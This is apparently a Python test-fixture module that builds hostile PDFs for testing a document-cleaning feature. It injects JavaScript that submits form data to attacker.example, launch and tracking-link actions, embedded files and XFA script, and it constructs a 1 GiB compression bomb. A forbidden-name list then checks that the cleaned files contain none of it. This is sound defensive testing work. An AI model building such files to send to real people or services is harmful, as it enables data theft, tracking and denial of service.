"""Hostile PDFs for the cleaning tests: a form template (or a scan) with every kind of active
content a PDF viewer runs or fetches by itself (ISO 32000-1, 12.6), a compression bomb and a
file of many objects. Only pypdf; no Django.

Every script says ``PAYLOAD`` and every address ``attacker.example``, so a test can search the
bytes of a file, streams inflated, for any trace of them.
"""

from __future__ import annotations

import io
import re
import zlib
from functools import cache
from typing import cast

from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    IndirectObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

PAYLOAD = "app.alert('PAYLOAD'); this.submitForm('https://attacker.example/x');"
MARKERS = (b"PAYLOAD", b"attacker.example", b"calc.exe", b"evil.txt")
# Names a clean file must not contain anywhere (a name ends at a delimiter, 7.2.2).
FORBIDDEN_NAMES = (
    "/JavaScript",
    "/JS",
    "/OpenAction",
    "/AA",
    "/URI",
    "/Launch",
    "/SubmitForm",
    "/ImportData",
    "/GoToR",
    "/GoToE",
    "/XFA",
    "/EmbeddedFiles",
    "/EmbeddedFile",
    "/EF",
    "/FileAttachment",
    "/RichMedia",
)


def _js(writer: PdfWriter, text: str = PAYLOAD) -> IndirectObject:
    return writer._add_object(
        DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Action"),
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject(text),
            }
        )
    )


def _action(kind: str, **entries: object) -> DictionaryObject:
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = cast(
            "TextStringObject", TextStringObject(value) if isinstance(value, str) else value
        )
    return action


def _link(rect: tuple[float, float, float, float], action: DictionaryObject) -> DictionaryObject:
    return DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject(FloatObject(v) for v in rect),
            NameObject("/A"): action,
        }
    )


def _embedded_file(writer: PdfWriter) -> DictionaryObject:
    stream = DecodedStreamObject()
    stream.set_data(b"calc.exe PAYLOAD")
    stream[NameObject("/Type")] = NameObject("/EmbeddedFile")
    return DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Filespec"),
            NameObject("/F"): TextStringObject("evil.txt"),
            NameObject("/EF"): DictionaryObject({NameObject("/F"): writer._add_object(stream)}),
        }
    )


def with_active_content(data: bytes) -> bytes:
    """``data`` with an open action, document, page, field and widget scripts, links that
    open an address or launch a program, every other action type, an embedded file, an
    attachment annotation and XFA."""
    reader = PdfReader(io.BytesIO(data))
    if reader.is_encrypted:
        reader.decrypt("")
    writer = PdfWriter(clone_from=reader)
    root = writer._root_object
    root[NameObject("/OpenAction")] = _js(writer)
    root[NameObject("/AA")] = DictionaryObject(
        {NameObject(k): _js(writer) for k in ("/WC", "/WS", "/DS", "/WP", "/DP")}
    )
    names = cast(DictionaryObject, root.setdefault(NameObject("/Names"), DictionaryObject()))
    names = cast(DictionaryObject, names.get_object())
    names[NameObject("/JavaScript")] = DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("init"), _js(writer)])}
    )
    names[NameObject("/EmbeddedFiles")] = DictionaryObject(
        {
            NameObject("/Names"): ArrayObject(
                [TextStringObject("evil.txt"), writer._add_object(_embedded_file(writer))]
            )
        }
    )
    acro = cast(DictionaryObject, root["/AcroForm"].get_object())
    xfa = DecodedStreamObject()
    xfa.set_data(b"<xdp:xdp><script>PAYLOAD</script></xdp:xdp>")
    acro[NameObject("/XFA")] = writer._add_object(xfa)
    for number, page in enumerate(writer.pages):
        page[NameObject("/AA")] = DictionaryObject(
            {NameObject("/O"): _js(writer), NameObject("/C"): _js(writer)}
        )
        annots = cast(ArrayObject, page.setdefault(NameObject("/Annots"), ArrayObject()))
        annots = cast(ArrayObject, annots.get_object())
        widgets = [a.get_object() for a in annots if a.get_object().get("/Subtype") == "/Widget"]
        for widget in widgets[:3]:
            widget[NameObject("/AA")] = DictionaryObject(
                {NameObject(k): _js(writer) for k in ("/K", "/F", "/V", "/C", "/E", "/X", "/Fo")}
            )
            parent = widget.get("/Parent")
            if parent is not None:
                parent.get_object()[NameObject("/AA")] = DictionaryObject(
                    {NameObject("/K"): _js(writer)}
                )
        if widgets:
            widgets[0][NameObject("/A")] = _action(
                "/SubmitForm", F=TextStringObject("https://attacker.example/submit")
            )
        if len(widgets) > 1:
            widgets[1][NameObject("/A")] = _action("/ImportData", F="evil.txt")
        # Links: an address, a program, another file, an embedded file, a go-to that chains on
        # to a script, and a plain go-to within the document (the one kept).
        goto = _action("/GoTo", D=ArrayObject([page.indirect_reference, NameObject("/Fit")]))
        chained = _action("/GoTo", D=ArrayObject([page.indirect_reference, NameObject("/Fit")]))
        chained[NameObject("/Next")] = _js(writer)
        for i, action in enumerate(
            [
                _action("/URI", URI="https://attacker.example/track"),
                _action("/Launch", F="calc.exe"),
                _action("/GoToR", F="evil.txt", D=ArrayObject([NumberObject(0)])),
                _action("/GoToE", T=DictionaryObject()),
                chained,
                goto,
            ]
        ):
            annots.append(writer._add_object(_link((10 + 20 * i, 5, 28 + 20 * i, 15), action)))
        attachment = _link((200, 5, 210, 15), DictionaryObject())
        attachment[NameObject("/Subtype")] = NameObject("/FileAttachment")
        del attachment["/A"]
        attachment[NameObject("/FS")] = _embedded_file(writer)
        annots.append(writer._add_object(attachment))
        if number:
            break  # the first two pages are enough
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@cache
def _bomb_stream(inflated: int) -> bytes:
    """``inflated`` zero bytes, deflated (1 GiB deflates to about 1 MB)."""
    packer = zlib.compressobj(9)
    chunk = bytes(1 << 20)
    parts = [packer.compress(chunk) for _ in range(inflated >> 20)]
    parts.append(packer.flush())
    return b"".join(parts)


def with_bomb(data: bytes, inflated: int = 1 << 30) -> bytes:
    """``data`` whose first page draws a form XObject that inflates to ``inflated`` bytes."""
    writer = PdfWriter(clone_from=io.BytesIO(data))
    bomb = StreamObject()
    bomb._data = _bomb_stream(inflated)
    bomb[NameObject("/Filter")] = NameObject("/FlateDecode")
    bomb[NameObject("/Type")] = NameObject("/XObject")
    bomb[NameObject("/Subtype")] = NameObject("/Form")
    bomb[NameObject("/BBox")] = ArrayObject(FloatObject(v) for v in (0, 0, 1, 1))
    page = writer.pages[0]
    resources = cast(
        DictionaryObject, page.setdefault(NameObject("/Resources"), DictionaryObject())
    )
    xobjects = cast(
        DictionaryObject,
        resources.get_object().setdefault(NameObject("/XObject"), DictionaryObject()),
    )
    xobjects.get_object()[NameObject("/Bomb")] = writer._add_object(bomb)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def with_objects(data: bytes, count: int = 300_000) -> bytes:
    """``data`` with ``count`` more objects, all reachable from the catalog."""
    writer = PdfWriter(clone_from=io.BytesIO(data))
    refs = ArrayObject(writer._add_object(NumberObject(i)) for i in range(count))
    writer._root_object[NameObject("/Extra")] = writer._add_object(refs)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def every_byte(pdf: bytes) -> bytes:
    """The file's bytes followed by every stream of it decoded (encrypted files decrypted)."""
    reader = PdfReader(io.BytesIO(pdf))
    if reader.is_encrypted:
        reader.decrypt("")
    parts = [pdf]
    for generation, entries in reader.xref.items():
        for number in entries:
            obj = reader.get_object(IndirectObject(number, generation, reader))
            parts.append(repr(obj).encode())
            if isinstance(obj, StreamObject):
                parts.append(obj.get_data())
    for number in reader.xref_objStm:
        parts.append(repr(reader.get_object(IndirectObject(number, 0, reader))).encode())
    return b"\n".join(parts)


def active_traces(pdf: bytes) -> list[str]:
    """Every forbidden name and marker found in ``pdf``, streams decoded."""
    text = every_byte(pdf)
    found = [m.decode() for m in MARKERS if m in text]
    for name in FORBIDDEN_NAMES:
        # A name ends at white space or a delimiter (7.2.2); repr() of pypdf objects quotes it.
        if re.search(re.escape(name.encode()) + rb"(?=[\s/<>\[\]()'\"{},]|$)", text):
            found.append(name)
    return found
